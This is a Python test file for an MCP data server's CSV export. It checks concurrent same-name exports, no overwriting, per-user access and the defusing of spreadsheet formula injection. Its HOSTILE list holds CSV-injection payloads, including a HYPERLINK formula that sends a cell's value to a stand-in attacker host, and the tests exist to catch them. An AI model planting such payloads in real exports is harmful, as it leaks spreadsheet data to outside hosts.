"""Export files under concurrency and hostile names (issue 13 items 10-11): every export gets its own file,
even ten at once with the same name, and no CSV cell, header cells included, can start a formula."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client
from mcp.types import CallToolResult

from databar_mcp.config import Settings
from databar_mcp.core.files.export_writing import FORMULA_START
from databar_mcp.core.users import acting_as
from databar_mcp.sandbox import SandboxServer
from tests.conftest import BULK_ARGS, lead, run_sql, structured, whole

pytestmark = pytest.mark.anyio

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "\tTAB"]


async def concurrently(mcp: Client, name: str, args: dict[str, Any], n: int) -> list[CallToolResult]:
    results: list[CallToolResult] = []

    async def one() -> None:
        results.append(await mcp.call_tool(name, args))

    async with anyio.create_task_group() as group:
        for _ in range(n):
            group.start_soon(one)
    return results


def csv_rows(path: str) -> list[list[str]]:
    with Path(path).open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


async def test_ten_concurrent_task_exports_with_one_name_write_ten_files(mcp: Client, settings: Settings) -> None:
    task_id = structured(await mcp.call_tool("run_bulk_waterfall", BULK_ARGS))["task_id"]
    results = await concurrently(mcp, "export_task_result", {"task_id": task_id, "filename": "race"}, 10)
    assert not any(r.is_error for r in results)
    paths = {structured(r)["path"] for r in results}
    assert len(paths) == 10
    files = sorted(settings.exports_dir.glob("race*.csv"))
    assert len(files) == 10 and {str(f) for f in files} == paths
    assert all(len(csv_rows(str(f))) == 1 + len(BULK_ARGS["params"]) for f in files)


async def test_ten_concurrent_table_exports_with_one_name_write_ten_files(mcp: Client, settings: Settings) -> None:
    made = structured(await mcp.call_tool("create_table", {"name": "race", "columns": ["name"]}))
    table = made["identifier"]
    await mcp.call_tool("insert_rows", {"table_uuid": table, "rows": [{"name": f"n{i}"} for i in range(5)]})
    results = await concurrently(mcp, "export_table_rows", {"table_uuid": table, "filename": "trace"}, 10)
    assert not any(r.is_error for r in results)
    assert len({structured(r)["path"] for r in results}) == 10
    files = sorted(settings.exports_dir.glob("trace*.csv"))
    assert len(files) == 10
    assert all(len(csv_rows(str(f))) == 6 for f in files)  # one header, five rows: no file written twice


async def test_an_existing_file_is_never_overwritten(mcp: Client, settings: Settings) -> None:
    settings.exports_dir.mkdir(parents=True)
    mine = settings.exports_dir / "keep.csv"
    mine.write_text("precious\n")
    task_id = structured(await mcp.call_tool("run_bulk_waterfall", BULK_ARGS))["task_id"]
    out = structured(await mcp.call_tool("export_task_result", {"task_id": task_id, "filename": "keep"}))
    assert out["path"].endswith("keep-1.csv")
    assert mine.read_text() == "precious\n"


async def test_task_export_headers_are_defused(mcp: Client) -> None:
    row = {**lead("John", "Doe", "example.com"), **{key: "v" for key in HOSTILE}}
    task_id = structured(await mcp.call_tool("run_bulk_waterfall", {**BULK_ARGS, "params": [row]}))["task_id"]
    out = structured(await mcp.call_tool("export_task_result", {"task_id": task_id, "filename": "hostile"}))
    rows = csv_rows(out["path"])
    cells = [c for line in rows for c in line]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'" + HOSTILE[0] in rows[0] and "'@SUM(1+1)" in rows[0]


async def test_table_export_headers_are_defused(mcp: Client) -> None:
    made = structured(await mcp.call_tool("create_table", {"name": "hostile", "columns": HOSTILE}))
    table = made["identifier"]
    await mcp.call_tool("insert_rows", {"table_uuid": table, "rows": [dict.fromkeys(HOSTILE, "=1+1")]})
    out = structured(await mcp.call_tool("export_table_rows", {"table_uuid": table, "filename": "hostile_table"}))
    rows = csv_rows(out["path"])
    assert not [c for line in rows for c in line if c.startswith(FORMULA_START)]
    assert "'@SUM(1+1)" in rows[0]


async def test_a_run_exported_right_after_it_finished_is_written_from_its_answers_rows(
    mcp: Client, sandbox: SandboxServer, settings: Settings
) -> None:
    """Issue 28 (the 10,000-row run -> CSV): the export read the finished result back from the ledger,
    decompressed, decoded and presented every row again. A run's rows are now kept a minute after its answer:
    exported then, they are written with no read of the result (here its ledger copy is gone meanwhile and no
    request is sent), joined to the inputs as ever; another user gets nothing of them."""
    sandbox.state.balance = 1_000.0
    done = structured(await mcp.call_tool("run_bulk_waterfall", {**BULK_ARGS, "wait_seconds": 25}))
    task_id = done["task_id"]
    assert done["done"] is True
    run_sql(settings, "DELETE FROM results WHERE task_id = ?", task_id)
    gets = sandbox.state.counts["GET /v1/tasks/{task_id}"]

    out = structured(await mcp.call_tool("export_task_result", {"task_id": task_id}))

    assert sandbox.state.counts["GET /v1/tasks/{task_id}"] == gets
    lines = csv_rows(out["path"])
    assert out["rows"] == len(BULK_ARGS["params"]) == len(lines) - 1 and out["inputs_joined"] is True
    assert lines[1][1:4] == [str(v) for v in BULK_ARGS["params"][0].values()][:3]
    with acting_as("bob"):  # not the user who ran it
        refused = await mcp.call_tool("export_task_result", {"task_id": task_id})
    assert refused.is_error and "not_found" in whole(refused)
